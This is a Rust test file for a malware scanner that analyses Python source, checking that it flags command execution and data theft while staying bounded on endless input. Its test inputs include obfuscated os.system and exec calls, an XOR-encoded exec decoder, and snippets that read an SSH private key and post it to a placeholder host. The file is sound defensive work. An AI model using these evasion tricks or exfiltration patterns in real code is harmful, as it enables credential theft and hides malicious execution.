//! What the Python view leaves out to be fast, and that nothing makes it go on for ever.

use lurescan::analyse::{Analysed, analyse};
use lurescan::artifact::{Kind, Text};
use lurescan::signal::{GapReason, Limit};

use crate::subject::artifact;

/// Runs with the stack that the scanner gives its threads.
fn read_as(path: &'static str, source: &str) -> Analysed {
    let source = source.to_owned();
    let thread = std::thread::Builder::new().stack_size(lurescan::limits::STACK_BYTES).spawn(move || {
        let artifact = artifact(path, Kind::Python, source.as_bytes());
        analyse(&artifact, &Text::new(source.as_bytes()), true)
    });
    thread.expect("a thread starts").join().expect("reading does not panic")
}

/// What a source comes to, and the bytes that were asked for.
fn measured(source: &str) -> (Analysed, u64) {
    let source = source.to_owned();
    let work = move || {
        let artifact = artifact("a.py", Kind::Python, source.as_bytes());
        crate::measure::asked(|| analyse(&artifact, &Text::new(source.as_bytes()), true))
    };
    let thread = std::thread::Builder::new().stack_size(lurescan::limits::STACK_BYTES).spawn(work);
    thread.expect("a thread starts").join().expect("reading does not panic")
}

fn read(source: &str) -> Analysed {
    read_as("a.py", source)
}

/// A file of that many bytes in which nothing acts, before the source.
fn padded(source: &str, bytes: usize) -> String {
    let mut text = String::new();
    while text.len() < bytes {
        text.push_str("# A remark that stands there to make the file long.\nvalue = 1\n");
    }
    text.push_str(source);
    text
}

fn is_followed(source: &str) -> bool {
    read(&padded(source, 4 << 10)).facts.evaluator.0 > 0
}

#[test]
fn sentences_and_plain_lookups_are_no_signs() {
    for source in [
        "# the operating system is asked\n",
        "def f():\n    \"\"\"The file system is left alone, and the subprocess module is not used.\"\"\"\n",
        "    # os.system('id')\n",
        "x = getattr(value, 'name', None)\n",
        "import re\np = re.compile('a')\n",
        "model.eval()\n",
        "import json\nx = json.loads(text)\n",
        "role = {'role': 'system'}\n",
        "def evaluate(executor): return executor.execute()\n",
    ] {
        assert!(!is_followed(source), "{source}");
    }
}

#[test]
fn trivial_edits_do_not_step_under_the_gate() {
    for source in [
        "import os\nos.system('id')\n",
        "import os\n(os\n  # the system is\n  .system)('id')\n",
        "import os\nos . \\\n  system ('id')\n",
        "from os import system as s; s('id')\n",
        "import os\nx = 0or os.system('id')\n",
        "import os\nx = [os.system(x)for x in y]\n",
        "import os\ngetattr(os, 'sys' 'tem')('id')\n",
        "import os\ngetattr(os, 'system')('id')\n",
        "import os\ngetattr(os, f'system')('id')\n",
        "import os\ngetattr(os, name)('id')\n",
        "import os\nos.__dict__['sys' + 'tem']('id')\n",
        "import os\nvars(os)['sys' + 'tem']('id')\n",
        "import os\nos.__getattribute__('sys' + 'tem')('id')\n",
        "# a remark\rimport os;os.system('id')\n",
        "print 'a'; exec code\n",
        "\u{1d626}xec('1')\n",
        "import os\nos.\u{17f}ystem('id')\n",
        "\u{ff45}val('1')\n",
        "from operator import methodcaller\nimport os\nmethodcaller('system', 'id')(os)\n",
        "(lambda: 0).__code__ = x\n",
        "import pandas as p\np.eval(text)\n",
    ] {
        assert!(is_followed(source), "{source}");
    }
}

#[test]
fn a_function_of_a_large_file_that_acts_under_another_name_is_looked_into() {
    let source = "import subprocess as sp\ndef later():\n    sp.run('id', shell=True)\n";
    let facts = read(&padded(source, 64 << 10)).facts;
    assert!(facts.flows.iter().any(|flow| flow.text.as_deref() == Some("id")), "{:?}", facts.flows);
}

/// A file of 8 kB with a sign of something far from the functions in question.
fn within_a_long_file(source: &str) -> lurescan::analyse::Facts {
    read(&padded(&format!("import os, requests\ndef sign():\n    os.system('true')\n{source}"), 8 << 10)).facts
}

#[test]
fn a_function_of_a_long_file_that_only_joins_others_is_looked_into() {
    for source in [
        // From one that reads to one that sends.
        "def a():\n    return open('/home/u/.ssh/id_rsa').read()\ndef b(x):\n    requests.post('https://c.invalid', data=x)\n\
         def c():\n    b(a())\n",
        // The one that sends is a method, and the connection an attribute.
        "class A:\n    def __init__(self):\n        self.s = requests.Session()\n    def b(self, x):\n        \
         self.s.post('https://c.invalid', data=x)\n    def c(self):\n        self.b(self.a())\n    def a(self):\n        \
         return open('/home/u/.ssh/id_rsa').read()\n",
        // Two steps away, under another name.
        "def a():\n    return open('/home/u/.ssh/id_rsa').read()\ndef b(x):\n    requests.post('https://c.invalid', data=x)\n\
         go = b\ndef d(x):\n    go(x)\ndef c():\n    d(a())\n",
        // The address stands outside.
        "U = 'https://c.invalid'\nR = requests.Session()\ndef c():\n    f = open('/home/u/.ssh/id_rsa')\n    R.post(U, data=f.read())\n",
    ] {
        let facts = within_a_long_file(source);
        let sends = facts.flows.iter().any(|flow| flow.labels.any(lurescan::analyse::Labels::FILE));
        assert!(sends, "{source} {:?}", facts.flows);
    }
}

#[test]
fn a_function_of_a_large_file_that_looks_a_power_up_in_a_module_is_looked_into() {
    for source in [
        "import os\ndef later():\n    getattr(os, 'sys' + 'tem')('id')\n",
        "import os\ndef later():\n    vars(os)['sys' + 'tem']('id')\n",
        "import os\ndef later():\n    os.__dict__['sys' + 'tem']('id')\n",
        "import shutil\ndef later():\n    getattr(shutil.os, 'sys' + 'tem')('id')\n",
        "import os\ndef it(m):\n    return getattr(m, 'sys' + 'tem')\ndef later():\n    it(os)('id')\n",
    ] {
        let facts = read(&padded(source, 64 << 10)).facts;
        assert!(facts.evaluator.0 > 0, "{source}");
        let runs = facts.commands.iter().any(|command| command.text == "id");
        let named = facts.calls.iter().any(|call| call.arguments.iter().flatten().any(|text| text == "id"));
        assert!(runs || named, "{source} {:?}", facts.calls);
    }
}

#[test]
fn functions_of_a_long_file_that_only_compute_are_not_looked_into() {
    let mut source = String::from("import os\ndef act():\n    os.system('true')\n");
    let before = within_a_long_file(&source).evaluator.0;
    for number in 0..50 {
        source.push_str(&format!("def f{number}(a, b):\n    c = a + b\n    return [c, c * 2, getattr(a, b)]\n"));
    }
    let after = within_a_long_file(&source).evaluator.0;
    assert!(after < before + 50 * 4, "{before} {after}");
}

#[test]
fn a_file_that_calls_into_its_own_package_while_it_is_loaded_is_followed() {
    let source = "from .main import report, gather\nreport(gather())\n";
    assert!(!read(&padded(source, 4 << 10)).facts.load_calls.is_empty());
    let source = "from thing.main import report, gather\nreport(gather())\n";
    assert!(!read_as("src/thing/__init__.py", &padded(source, 4 << 10)).facts.load_calls.is_empty());
    assert_eq!(read_as("src/other/__init__.py", &padded(source, 4 << 10)).facts.evaluator.0, 0);
}

#[test]
fn an_instance_that_is_its_own_function_ends() {
    read("import os\nclass A:\n    pass\nA.__call__ = A()\nA()()\nos.system('id')\n");
    let analysed = read(
        "import os\nclass A:\n    __add__ = str.__add__\n    __call__ = str.__call__\nA() + A()\nA()()\nos.system('id')\n",
    );
    assert!(analysed.facts.flows.iter().any(|flow| flow.text.as_deref() == Some("id")), "what follows is looked at");
}

#[test]
fn values_of_values_are_looked_through_once() {
    let mut source = "import os\na = [os.getenv('HOME')]\n".to_owned();
    for _ in 0..5 {
        source.push_str("a = [list(a) for i in range(20)]\n");
    }
    source.push_str("for i in range(1000):\n    a.append(str(a))\n");
    read(&source);
}

#[test]
fn what_is_taken_out_of_a_list_is_gone() {
    let source = "import os\nx = ['a', 'b', 'c']\ndel x[0], x[-1]\nd = {'k': 1, 'l': 2}\ndel d['k']\nos.system(x[0] + ''.join(d))\n";
    let facts = read(source).facts;
    assert!(facts.flows.iter().any(|flow| flow.text.as_deref() == Some("bl")), "{:?}", facts.flows);
}

#[test]
fn a_decoder_that_is_cut_short_leaves_a_gap_and_an_honest_loop_none() {
    let payload = "QUJD".repeat(400);
    let endless = format!("import os\nx = '{payload}'\ny = ''\nwhile True:\n    y += x[0]\n    y = y[1:]\n");
    let gap = |analysed: &Analysed| {
        analysed.gaps.iter().any(|(stage, why)| *stage == "python" && *why == GapReason::Limit(Limit::Steps))
    };
    assert!(gap(&read(&endless)));
    let honest = "import os\ny = 0\nwhile True:\n    y += 1\n";
    let analysed = read(honest);
    assert!(analysed.facts.evaluator.1 && !gap(&analysed), "the fact says so, and nothing was hidden");
}

#[test]
fn a_decoder_may_take_as_long_as_what_it_decodes() {
    // 20,000 letters, each some thirty steps, in a file that is a function's and nobody calls.
    let encoded: String =
        format!("import os\nos.system('{}')\n", "a".repeat(20_000)).bytes().map(|b| format!("{:02x}", b ^ 7)).collect();
    let source = format!(
        "x = '{encoded}'\ndef run():\n    y = ''\n    for i in range(0, len(x), 2):\n        y += chr(int(x[i:i + 2], 16) ^ 7)\n    exec(y)\n"
    );
    let facts = read(&source).facts;
    assert!(
        facts.flows.iter().any(|flow| flow.text.as_deref().is_some_and(|text| text.starts_with("aaa"))),
        "{:?}",
        facts.evaluator
    );
}

#[test]
fn a_text_of_which_not_all_is_known_does_not_grow_without_end() {
    for grow in
        ["s = s + s", "s += s", "s = f'{s}{s}'", "s = os.path.join(s, s)", "s = '%s' % s + s", "s = [s, s]; s = str(s)"]
    {
        let source = format!(
            "import os\ns = os.getcwd() + 'x'\nwhile True:\n    {grow}\nfor i in range(99):\n    {grow}\nos.system('id')\n"
        );
        let (analysed, asked) = measured(&source);
        assert!(asked < 32 << 30, "{grow}: {asked} bytes");
        let goes_on = analysed.facts.flows.iter().any(|flow| flow.text.as_deref() == Some("id"));
        assert!(goes_on, "{grow}: {:?}", analysed.gaps);
    }
}
